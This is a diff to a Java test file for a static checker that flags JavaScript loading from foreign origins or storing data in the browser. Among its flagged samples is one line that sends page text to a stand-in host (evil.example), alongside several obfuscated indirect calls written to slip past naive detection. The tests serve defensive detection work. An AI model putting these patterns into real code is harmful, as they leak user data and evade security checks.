@@ -401,6 +401,24 @@ class FileCheckTest {
             a.js          | foreign-load    | Object.assign(img, { [k]: u })
             a.js          | foreign-load    | Object.assign({}.a, o)
             a.js          | foreign-load    | const rows = {}; [rows] = list; rows[k] = u
+            a.js          | foreign-load    | const w = event.view; w.open("/" + "/evil.example/?" + words);
+            a.js          | foreign-load    | event.view.open(u)
+            a.js          | foreign-load    | addEventListener("load", function () { const w = this; w[f](u); })
+            a.js          | foreign-load    | const d = document; d[m](u)
+            a.js          | foreign-load    | start(document); function start(d) { d[m](u); }
+            a.js          | foreign-load    | event.currentTarget[f](u)
+            a.js          | foreign-load    | event.currentTarget?.[f](u)
+            a.js          | foreign-load    | w[f]?.(u)
+            a.js          | foreign-load    | d[m].call(d, u)
+            a.js          | foreign-load    | d[m]?.call(d, u)
+            a.js          | foreign-load    | new w[k](u)
+            a.js          | foreign-load    | const w = this; w.open(u)
+            a.js          | foreign-load    | addEventListener("x", ({ view }) => view.open("a.html"))
+            a.js          | foreign-load    | addEventListener("x", ({ view: w }) => go(w))
+            a.js          | foreign-load    | event.view[f](u)
+            a.js          | foreign-load    | event.view.location = u
+            a.js          | foreign-load    | const o = { classList: d }; o.classList[m](u)
+            a.js          | browser-storage | event.view.name = words
             """)
     void findsWhatLoadsFromElsewhereOrStaysOnTheDevice(String path, String rule, String text) {
         assertThat(check(path, text)).isNotEmpty();
@@ -519,8 +537,8 @@ class FileCheckTest {
             a.js          | const self = this; self.show(); const w = self.width
             a.js          | addEventListener("resize", show); getComputedStyle(document.body); observe(part)
             a.js          | const fills = document.createElement("template"); part.append(fills)
-            a.js          | handlers[event.type](event)
-            a.js          | list[i](x)
+            a.js          | const handlers = { click: show, keydown: show }; handlers[event.type](event); handlers[key]?.(event)
+            a.js          | const list = []; list.push(f); list[i](x); list[0](x); rows[i].focus(); new kinds.Box(x)
             a.js          | const s = text.replace(/'/g, "’"); if (a) { b = c / 2; }
             a.js          | const x = { name: "a", value: 1 }; x.name = "b"
             a.js          | document.title = name; let top = 1; let b = top;
@@ -546,6 +564,11 @@ class FileCheckTest {
             a.js          | const n = Array.from(list, (x) => x.y).filter(Boolean); n[i] = v
             a.js          | let cache = null; cache = {}; cache[k] = v; cache = undefined
             a.js          | const rows = [], show = () => {}; setTimeout(show, 1); const f = ({ rows: list }) => list
+            a.js          | let view = "list"; view = "map"; show(view); const state = { view: "list" }; state.view = view; draw(state.view); this.view = view
+            a.js          | const find = (words, root = document) => root.querySelector(words); start(document); const root = document
+            a.js          | part.classList[isOpen ? "add" : "remove"]("open"); part.classList?.[isOpen ? "add" : "remove"]("open")
+            a.js          | dialog.open(); details.open = !details.open; class Box { open(x) { show(x); } } box.open(x)
+            a.js          | const x = list[i] ? 0.5 : 1, y = rows[k]?.name, z = { k: list[i], m: words[key].length }
             a.css         | @counter-style a { system: cyclic; symbols: "a" "b"; prefix: "Step: "; suffix: ". " }
             a.css         | ul { list-style-type: "Note: " }
             a.css         | a { --label: "Tip: "; quotes: "«" "»" }
